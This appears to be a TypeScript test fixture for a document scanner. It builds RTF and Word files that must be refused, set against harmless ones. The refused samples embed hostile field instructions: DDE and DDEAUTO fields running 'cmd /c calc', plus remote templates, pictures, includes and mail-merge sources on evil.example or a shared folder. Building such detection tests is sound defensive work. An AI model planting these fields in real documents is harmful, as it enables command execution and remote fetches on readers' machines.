import { docx, rtf } from './documents.ts';

/** The main part of a Word file with the instruction of a field, each word of it in its own element. */
export const field = (...words: string[]) => ({
  'word/document.xml': `<w:document xmlns:w="w">${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
});
export const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');
const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';
const oldWord = (content: string) =>
  new Uint8Array(Buffer.from(`${ole}${wide('WordDocument')}\x01\0${content}`, 'latin1'));
const rtfField = (instruction: string) => rtf(`{\\field{\\*\\fldinst ${instruction}}{\\fldrslt Ada}}`);
/** The strings that an old Word file stores about itself: an unused one, the template and the title. */
const strings = (template: string) =>
  `\xff\xff\x12\0\0\0\0\0${String.fromCharCode(template.length)}\0${wide(template)}\x02\0${wide('CV')}`;

const NO_CHILD = 0xffffffff;
/** The entry of the folder of embedded objects in an old Word file. @param child the entry of the first object */
function objectPool(child: number): string {
  const entry = Buffer.alloc(128);
  entry.write(wide('ObjectPool'), 'latin1');
  entry.writeUInt32LE(child, 0x4c);
  return entry.toString('latin1');
}

const RUNS = 'contains macros, controls or objects from other programs';
const FETCHES = 'fetches or sends something';

type Document = readonly [what: string, extension: string, content: Uint8Array];

/** Instructions of fields that fetch or run something. */
const FETCHING_FIELDS = [
  'INCLUDEPICTURE "https://evil.example/a.png" \\\\d',
  'INCLUDETEXT "\\\\\\\\evil.example\\\\a.docx"',
  'LINK Excel.Sheet.8 "https://evil.example/a.xls"',
  'DDE cmd "/c calc"',
  'DDEAUTO cmd "/c calc"',
];

/** RTF files, Word files of before 2007 and fields of Word that run or fetch something, with the reason for the refusal. */
export const DANGEROUS_FIELDS: readonly (readonly [...Document, has: string])[] = [
  ['an old Word file with an embedded package', 'doc', oldWord(wide('Ole10Native')), RUNS],
  ['an old Word file with an embedded object', 'doc', oldWord(objectPool(7)), RUNS],
  [
    'an old Word file with a remote source of a mail merge',
    'doc',
    oldWord(`${strings('').slice(0, 10)}${'\0'.repeat(12)}\x16\0${wide('https://evil.example/a')}`),
    FETCHES,
  ],
  [
    'an RTF file with a query of a database',
    'rtf',
    rtf('{\\*\\mailmerge\\mmlinktoquery{\\mmconnectstr DSN=a}{\\mmquery SELECT * FROM a}}'),
    FETCHES,
  ],
  ...FETCHING_FIELDS.flatMap((words): (readonly [...Document, has: string])[] => {
    const [type = ''] = words.split(' ');
    const has = type.startsWith('DDE') ? RUNS : FETCHES;
    return [
      [`an RTF file with the field ${type}`, 'rtf', rtfField(words), has],
      [`an old Word file with the field ${type}`, 'doc', oldWord(`Ada\x13 ${words} \x14\x15`), has],
      [`an old Word file with the field ${type}, in UTF-16`, 'doc', oldWord(wide(`\x13${words}\x14`)), has],
      [`a Word file with the field ${type}`, 'docx', docx(field(` ${words} `)), has],
    ];
  }),
  [
    'an RTF file with a formatted field',
    'rtf',
    rtfField('{\\b  L}{\\*\\x y}{\\i INK} Excel.Sheet.8'),
    FETCHES,
  ],
  ['an RTF file with a field in character codes', 'rtf', rtfField("\\'44DE cmd"), FETCHES],
  [
    'an RTF file with a field that another field names',
    'rtf',
    rtfField('{\\field{\\*\\fldinst QUOTE L}}'),
    FETCHES,
  ],
  [
    'an RTF file with a linked picture',
    'rtf',
    rtf('{\\sp{\\sn pibName}{\\sv https://evil.example/a.png}}{\\sp{\\sn pibFlags}{\\sv 10}}'),
    FETCHES,
  ],
  ['an old Word file with a remote template', 'doc', oldWord(strings('https://evil.example/a.dot')), FETCHES],
  [
    'an old Word file with a template in a shared folder',
    'doc',
    oldWord(strings('\\\\evil\\a.dot')),
    FETCHES,
  ],
];

/** Harmless documents with fields and templates. */
export const HARMLESS_FIELDS: readonly Document[] = [
  [
    'an RTF file with a link and page numbers',
    'rtf',
    rtf(
      '{\\field{\\*\\fldinst {\\b HYPERLINK "https://ada.example" \\\\o "LINK" }}{\\fldrslt Ada}} {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} {\\field{\\*\\fldinst }} LINK',
    ),
  ],
  [
    'an RTF file with a drawing from its author’s machine',
    'rtf',
    rtf('{\\sp{\\sn pibName}{\\sv C:\\\\Ada\\\\logo.png}}'),
  ],
  ['an RTF file with the settings of formulas', 'rtf', rtf('{\\mmathPr\\mmathFont0\\mbrkBin0}')],
  ['an old Word file with an empty folder of objects', 'doc', oldWord(objectPool(NO_CHILD))],
  [
    'an old Word file with links, page numbers and a template',
    'doc',
    oldWord(
      `\x13 HYPERLINK "https://ada.example" \x14LINK\x15 \x13 PAGE \x14${wide('\x13PAGE\x14 Included: LinkedIn')}${strings('C:\\Ada\\CV.dot')}`,
    ),
  ],
];
